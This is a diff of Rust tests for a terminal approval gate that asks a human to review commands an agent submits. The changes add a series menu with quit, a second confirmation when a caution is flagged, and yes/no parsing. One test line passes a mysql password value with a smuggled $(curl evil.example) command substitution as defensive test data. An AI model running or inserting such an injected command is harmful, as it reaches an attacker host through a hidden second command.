@@ -8,7 +8,9 @@ use hitl_base::display::is_unseen;
 use hitl_base::sync::lock;
 
 use super::editor::Editor;
-use super::reply::{EditCheck, EditReply, Reply, edit_question, question, read, read_edit};
+use super::reply::{
+    EditCheck, EditReply, Menu, Reply, confirms, edit_question, read_edit, second_question,
+};
 use super::stdin::Console;
 use super::tty::Terminal;
 use super::{ColorMode, TerminalApprover, card, preview};
@@ -16,6 +18,14 @@ use crate::approval::fixture::{NOW, request};
 use crate::approval::{ApprovalRequest, Approver as _, Choice, DecisionKind, Review};
 use crate::audit::AuditEvent;
 use crate::call::Principal;
+
+fn read(line: &str, request: &ApprovalRequest) -> Reply {
+    super::reply::read(line, request, Menu::Single)
+}
+
+fn question(request: &ApprovalRequest) -> String {
+    super::reply::question(request, Menu::Single)
+}
 
 #[test]
 fn the_card_says_what_would_happen_and_why_it_asks() {
@@ -99,6 +109,36 @@ fn nothing_is_decided_by_accident() {
     request.choices = vec![Choice::Reject];
     assert_eq!(read("a", &request), Reply::Unclear);
     assert!(!question(&request).contains("[a]"));
+}
+
+#[test]
+fn a_series_can_be_ended_and_a_single_question_cannot() {
+    let request = request("{}");
+    for line in ["q", "quit", " Q "] {
+        assert_eq!(super::reply::read(line, &request, Menu::Series), Reply::Quit, "{line}");
+        assert_eq!(read(line, &request), Reply::Unclear, "{line}");
+    }
+    assert!(super::reply::question(&request, Menu::Series).ends_with("[s] Skip   [q] Quit > "));
+}
+
+#[test]
+fn one_key_is_too_little_where_there_is_a_caution() {
+    let mut request = request("{}");
+    let asked = second_question(&request).unwrap();
+    assert!(
+        asked.contains("an amount is above its limit") && asked.contains("[y] Send"),
+        "{asked}"
+    );
+    request.assessment.factors.clear();
+    assert_eq!(second_question(&request), None);
+    request.level = crate::policy::ApprovalLevel::Full;
+    assert!(second_question(&request).unwrap().contains("it needs a full review"));
+    for yes in ["y", " YES "] {
+        assert!(confirms(yes), "{yes}");
+    }
+    for no in ["", "a", "n", "ok", "y y"] {
+        assert!(!confirms(no), "{no}");
+    }
 }
 
 #[test]
@@ -241,7 +281,7 @@ mod typed {
             .build()
             .await
             .unwrap();
-        keyboard.write_all(b"u\na\n").unwrap();
+        keyboard.write_all(b"u\na\ny\n").unwrap();
         let run = "mysql --password=\"aB3dE6gH$(curl evil.example)\"";
         let submitted = gate.submit(Command { run: run.to_owned() }).by("agent").await.unwrap();
         assert!(matches!(submitted, crate::Submission::Done { .. }), "{submitted:?}");
@@ -294,7 +334,7 @@ mod typed {
         let skipped = request("{}");
         assert_eq!(approver.review(&skipped).await, Review::NoAnswer);
         assert!(shown.lock().unwrap().ends_with(&not_decided(&skipped)));
-        keyboard.write_all(b"a\n").unwrap();
+        keyboard.write_all(b"a\ny\n").unwrap();
         let decided = request("{}");
         assert!(matches!(approver.review(&decided).await, Review::Decided(_)));
         assert!(!shown.lock().unwrap().contains(&not_decided(&decided)));
@@ -317,7 +357,7 @@ mod typed {
             first.id
         );
         assert!(shown.lock().unwrap().contains(&note));
-        keyboard.write_all(b"a\n").unwrap();
+        keyboard.write_all(b"a\ny\n").unwrap();
         let Review::Decided(decision) = approver.review(&second).await else { panic!("decided") };
         assert_eq!(decision.request, second.id);
     }
